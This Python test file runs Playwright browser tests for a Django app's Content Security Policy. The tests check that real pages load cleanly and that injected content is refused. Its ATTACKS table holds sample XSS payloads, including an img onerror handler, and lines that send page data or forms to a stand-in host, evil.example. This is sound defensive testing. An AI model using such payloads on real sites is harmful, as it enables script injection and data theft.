"""Under the real policy, in a real browser: nothing of ours is refused, nothing of others gets through."""

import re

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from tests.browser.conftest import DESKTOP, PHONE
from tests.coming import come_in
from tests.inputs.routes import addresses, answer

pytestmark = pytest.mark.browser

KINDS = ("worker", "officer", "handler", "mediator", "clerk", "keeper", "guard", "auditor")
LISTEN = """
  window.__refused = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    window.__refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));
"""


@pytest.fixture
def opened(browser, live_server, transactional_db):
    """Opens a window as this user; what the browser complains of is gathered in `page.complaints`."""
    contexts = []

    def enter(user, size=PHONE, **options):
        client = Client()
        come_in(client, user)
        context = browser.new_context(viewport=size, base_url=live_server.url, locale="zh-CN", **options)
        contexts.append(context)
        name = settings.SESSION_COOKIE_NAME
        context.add_cookies([{"name": name, "value": client.cookies[name].value, "url": live_server.url}])
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.complaints = []
        page.on("pageerror", lambda error: page.complaints.append(str(error)))
        page.on("console", lambda said: is_complaint(said) and page.complaints.append(said.text))
        page.on("response", lambda back: is_missing(back) and page.complaints.append(f"no {back.url}"))
        return page

    yield enter
    for context in contexts:
        context.close()


def is_complaint(said):
    """An error or warning of the browser's; what could not be loaded is asked of the answers themselves."""
    return said.type in {"error", "warning"} and "Failed to load" not in said.text


def is_missing(response):
    """Something that a page asks for, and that is not there."""
    loaded = response.request.resource_type in {"script", "stylesheet", "image", "font", "fetch", "xhr"}
    return loaded and response.status >= 400 and not response.url.endswith("/favicon.ico")


def refused(page):
    """What the browser refused on this page, and what it complained of."""
    found = [*page.evaluate("window.__refused"), *page.complaints]
    page.complaints.clear()
    return found


def like_another(name):
    """The admin's pages are Django's few templates: two models have them all."""
    return name.startswith("admin:") and "_" in name and not re.search("areas_area|accounts_duty", name)


def pages(furnished):
    """Every page once, by a user to whom it is shown: who saw the one before in its room is tried first."""
    clients = {}
    for kind in KINDS:
        clients[kind] = Client()
        come_in(clients[kind], furnished.users[kind])
    found, inside = {kind: [] for kind in KINDS}, {}
    for name, address in addresses(furnished):
        room = address.split("/")[1]
        for kind in sorted(KINDS, key=lambda kind: kind != inside.get(room)):
            elsewhere = "logout" in name or address.startswith("/api/") or like_another(name)  # no pages
            response = None if elsewhere else answer(clients[kind], "get", address)
            if response and (response.status_code, response.headers["Content-Type"][:9]) == (
                200,
                "text/html",
            ):
                found[kind].append(address)
                inside[room] = kind
                break
    return found


def test_no_page_asks_for_anything_that_the_policy_refuses(opened, furnished):
    wrong, count = {}, 0
    for kind, shown in pages(furnished).items():
        page = opened(furnished.users[kind])
        for address in shown:
            page.set_viewport_size(PHONE)
            page.goto(address)
            page.set_viewport_size(DESKTOP)
            page.evaluate("new Promise(requestAnimationFrame)")
            count += 1
            if found := refused(page):
                wrong[f"{kind} {address}"] = found
    assert count > 60
    assert not wrong


def test_errors_ask_for_nothing_either(opened, furnished):
    page = opened(furnished.users["worker"])
    for address in ("/nowhere/", "/reports/", "/logout/"):
        page.goto(address)
        assert not refused(page), address


def test_the_admin_works_without_anything_inline(opened, furnished):
    page = opened(furnished.users["guard"], DESKTOP)  # who alone gives duties
    page.goto(reverse("admin:accounts_duty_add"))
    page.locator("#id_unit + .select2 .select2-selection").click()
    page.locator(".select2-results__option", has_text="市政所").click()
    assert page.locator("#id_unit option:checked").inner_text() == "市政所"
    assert not refused(page)
    page = opened(furnished.users["keeper"], DESKTOP)
    page.goto(reverse("admin:areas_area_add"))
    page.locator("#calendarlink0").click()
    page.locator("#calendarbox0 td a", has_text=re.compile("^15$")).click()
    assert page.locator("#id_active_until").input_value().endswith("15")
    assert not refused(page)


def test_the_place_is_asked_for_and_the_list_is_narrowed(opened, furnished):
    where = {"latitude": 30.5, "longitude": 120.9}
    page = opened(furnished.users["worker"], geolocation=where, permissions=["geolocation"])
    page.goto("/cases/new/")
    page.get_by_text("已定位").wait_for()
    page.goto("/cases/")
    page.get_by_role("searchbox").or_(page.get_by_label("找")).first.fill("井盖")
    page.keyboard.press("Enter")
    page.get_by_text("井盖破了").first.wait_for()
    assert not refused(page)


def put(tag, name, value):
    """JavaScript that puts such an element into the page."""
    return f"document.body.append(Object.assign(document.createElement('{tag}'), {{ {name}: '{value}' }}))"


EVIL = "https://evil.example/"
ATTACKS = {
    "script-src-elem": put("script", "textContent", "window.__ran = 1"),
    "script-src-attr": put("p", "innerHTML", '<img src=x onerror="window.__ran = 1">'),
    "style-src-attr": put("p", "innerHTML", '<b style="color: red">'),
    "style-src-elem": put("style", "textContent", "p { color: red }"),
    "img-src": put("img", "src", EVIL),
    "frame-src": put("iframe", "src", EVIL),
    "object-src": put("object", "data", EVIL),
    "base-uri": put("base", "href", EVIL),
    "form-action": put("form", "action", EVIL) + "; document.body.lastChild.submit()",
    "connect-src": f"fetch('{EVIL}', {{ method: 'POST', body: document.title }}).catch(() => 0)",
    "worker-src": "new Worker(URL.createObjectURL(new Blob(['1'])))",
}


def awaited(page, expression):
    """What the page says, as soon as it says anything. Asked again and again: it may not wait by eval."""
    for _ in range(200):
        if said := page.evaluate(expression):
            return said
        page.wait_for_timeout(50)
    raise AssertionError(f"{expression} never came true")


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_an_attacker_would_put_into_a_page_is_refused(opened, worker, directive):
    page = opened(worker)
    page.goto("/todo/")
    page.evaluate(f"() => {{ {ATTACKS[directive]} }}")
    said = awaited(page, f"window.__refused.find((said) => said.startsWith('{directive}'))")
    assert said
    assert page.evaluate("window.__ran") is None


def test_no_text_runs_as_code(opened, worker):
    page = opened(worker)
    page.goto("/todo/")
    # In a turn of the page's own: what the debugger runs is let through.
    run = "try { Function('return 1')(); window.__said = 'ran' } catch (error) { window.__said = error.name }"
    page.evaluate(f"setTimeout(() => {{ {run} }})")
    assert awaited(page, "window.__said") == "EvalError"
